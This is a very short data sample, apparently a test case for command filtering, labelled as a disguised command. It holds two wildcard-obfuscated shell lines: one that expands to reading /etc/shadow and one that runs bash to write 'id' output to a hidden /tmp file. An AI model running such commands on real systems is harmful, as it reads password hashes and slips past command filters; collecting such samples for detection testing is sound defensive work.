# disguised-command: wildcards in the command path match /bin/cat and /etc/shadow
/???/?at /e??/sh?d?w
/usr/bin/b??h -c 'id > /tmp/.who'
